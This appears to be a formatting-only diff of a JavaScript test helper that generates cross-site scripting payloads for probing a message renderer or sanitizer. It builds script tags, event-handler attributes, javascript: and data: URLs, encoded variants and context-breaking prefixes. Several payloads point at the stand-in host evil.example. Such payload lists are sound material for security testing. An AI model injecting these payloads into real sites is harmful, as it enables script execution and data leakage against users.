@@ -1,41 +1,64 @@
 // What somebody would write into a message to have it carried out: every beginning with every way to say it.
-const run = 'window.__pwn=1';
-const encoded = [run, `window['__pwn']=1`, `self.__pwn=1`, `top[\`__pwn\`]=1`, `eval(atob('d2luZG93Ll9fcHduPTE='))`];
+const run = 'window.__pwn=1'
+const encoded = [
+  run,
+  `window['__pwn']=1`,
+  `self.__pwn=1`,
+  `top[\`__pwn\`]=1`,
+  `eval(atob('d2luZG93Ll9fcHduPTE='))`,
+]
 
 const tags = [
-  (code) => `<script>${code}</script>`,
-  (code) => `<ScRiPt>${code}</sCrIpT>`,
-  (code) => `<script src="data:text/javascript,${code}"></script>`,
-  (code) => `<img src=x onerror="${code}">`,
-  (code) => `<img src=x onerror=${code.replaceAll("'", '`')}>`,
-  (code) => `<image/src/onerror=${code}>`,
-  (code) => `<svg onload="${code}">`,
-  (code) => `<svg><script>${code}</script></svg>`,
-  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
-  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
-  (code) => `<math href="javascript:${code}">x</math>`,
-  (code) => `<body onload="${code}">`,
-  (code) => `<iframe src="javascript:${code}"></iframe>`,
-  (code) => `<iframe srcdoc="<script>parent.__pwn=1;${code}</script>"></iframe>`,
-  (code) => `<object data="javascript:${code}"></object>`,
-  (code) => `<embed src="javascript:${code}">`,
-  (code) => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
-  (code) => `<input autofocus onfocus="${code}">`,
-  (code) => `<details open ontoggle="${code}">x</details>`,
-  (code) => `<video><source onerror="${code}"></video>`,
-  (code) => `<audio src=x onerror="${code}"></audio>`,
-  (code) => `<marquee onstart="${code}">x</marquee>`,
-  (code) => `<form action="javascript:${code}"><input type=submit></form>`,
-  (code) => `<button formaction="javascript:${code}">x</button>`,
-  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
-  (code) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${code})}">`,
-  (code) => `<style>@import "https://evil.example/x.css";*{background:url('https://evil.example/?${code}')}</style>`,
-  (code) => `<base href="https://evil.example/"><script src=x></script>${code}`,
-  (code) => `<template><script>${code}</script></template>`,
-  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
-  (code) => `<div style="background:url(https://evil.example/${encodeURIComponent(code)})">x</div>`,
-];
-const breaks = ['', '">', "'>", '</textarea>', '</title>', '-->', ']]>', '</script>', '`}', '\\"></a>', '\u0000', '&lt;', '\u202e', '{{', '${'];
+  code => `<script>${code}</script>`,
+  code => `<ScRiPt>${code}</sCrIpT>`,
+  code => `<script src="data:text/javascript,${code}"></script>`,
+  code => `<img src=x onerror="${code}">`,
+  code => `<img src=x onerror=${code.replaceAll("'", '`')}>`,
+  code => `<image/src/onerror=${code}>`,
+  code => `<svg onload="${code}">`,
+  code => `<svg><script>${code}</script></svg>`,
+  code => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
+  code => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
+  code => `<math href="javascript:${code}">x</math>`,
+  code => `<body onload="${code}">`,
+  code => `<iframe src="javascript:${code}"></iframe>`,
+  code => `<iframe srcdoc="<script>parent.__pwn=1;${code}</script>"></iframe>`,
+  code => `<object data="javascript:${code}"></object>`,
+  code => `<embed src="javascript:${code}">`,
+  code => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
+  code => `<input autofocus onfocus="${code}">`,
+  code => `<details open ontoggle="${code}">x</details>`,
+  code => `<video><source onerror="${code}"></video>`,
+  code => `<audio src=x onerror="${code}"></audio>`,
+  code => `<marquee onstart="${code}">x</marquee>`,
+  code => `<form action="javascript:${code}"><input type=submit></form>`,
+  code => `<button formaction="javascript:${code}">x</button>`,
+  code => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
+  code => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${code})}">`,
+  code =>
+    `<style>@import "https://evil.example/x.css";*{background:url('https://evil.example/?${code}')}</style>`,
+  code => `<base href="https://evil.example/"><script src=x></script>${code}`,
+  code => `<template><script>${code}</script></template>`,
+  code => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
+  code => `<div style="background:url(https://evil.example/${encodeURIComponent(code)})">x</div>`,
+]
+const breaks = [
+  '',
+  '">',
+  "'>",
+  '</textarea>',
+  '</title>',
+  '-->',
+  ']]>',
+  '</script>',
+  '`}',
+  '\\"></a>',
+  '\u0000',
+  '&lt;',
+  '\u202e',
+  '{{',
+  '${',
+]
 const lone = [
   'javascript:window.__pwn=1',
   'JaVaScRiPt:window.__pwn=1',
@@ -68,13 +91,13 @@ const lone = [
   '%3Cscript%3Ewindow.__pwn=1%3C/script%3E',
   '&#60;script&#62;window.__pwn=1&#60;/script&#62;',
   '\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e',
-];
+]
 
 export function payloads() {
-  const all = [...lone];
+  const all = [...lone]
   tags.forEach((tag, t) => {
-    encoded.forEach((code) => all.push(tag(code)));
-    breaks.forEach((start, b) => (t + b) % 3 === 0 && all.push(start + tag(run)));
-  });
-  return [...new Set(all)];
+    encoded.forEach(code => all.push(tag(code)))
+    breaks.forEach((start, b) => (t + b) % 3 === 0 && all.push(start + tag(run)))
+  })
+  return [...new Set(all)]
 }
